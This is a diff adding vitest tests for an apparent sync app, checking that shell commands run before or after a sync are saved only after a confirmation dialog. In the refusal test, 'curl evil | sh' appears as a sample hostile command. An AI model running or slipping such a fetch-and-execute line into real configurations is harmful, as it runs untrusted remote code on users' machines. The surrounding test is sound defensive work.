@@ -1,7 +1,7 @@
 import { symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { DEFAULT_CHOICES } from "../../../src/shared/model/job-spec.ts";
+import { DEFAULT_CHOICES, type JobChoices } from "../../../src/shared/model/job-spec.ts";
 import { AppStage, draft, newJob } from "./support/app-stage.ts";
 
 const HOUR = 3_600_000;
@@ -129,6 +129,31 @@ describe("[GU3] jobs whose places nest", () => {
     await expect(change(true)).rejects.toEqual(code("overlap"));
     await change(false);
     expect(stage.engine.config.jobs.map(({ name }) => name)).toEqual(["Photos", "Songs"]);
+  });
+});
+
+describe("[CM1] commands around syncs", () => {
+  const change = (job: string, commands: JobChoices["commands"]) =>
+    stage.window.call("changeJob", { job, name: "Photos", choices: { ...DEFAULT_CHOICES, commands } });
+
+  it("are saved once the system's own dialog confirmed them, each new line once", async () => {
+    const job = await stage.job(wasabi);
+    const commands = { before: "make dump", after: "rm dump" };
+    await change(job, commands);
+    await change(job, { ...commands, after: "true" });
+    await change(job, { before: "make dump" });
+    expect(stage.asked).toEqual(["make dump", "rm dump", "make dump", "true"]);
+    expect(stage.engine.config.jobs[0]?.choices.commands).toEqual({ before: "make dump" });
+  });
+
+  it("change nothing where the user says no", async () => {
+    const job = await stage.job(wasabi);
+    stage.confirms = false;
+    await expect(change(job, { before: "curl evil | sh" })).rejects.toEqual(code("not-confirmed"));
+    const added = { ...newJob(stage.folder("Music"), wasabi, "music/"), name: "Music" };
+    const choices = { ...DEFAULT_CHOICES, commands: { after: "curl evil | sh" } };
+    await expect(add({ ...added, choices })).rejects.toEqual(code("not-confirmed"));
+    expect(JSON.stringify(stage.document.content)).not.toContain("evil");
   });
 });
 
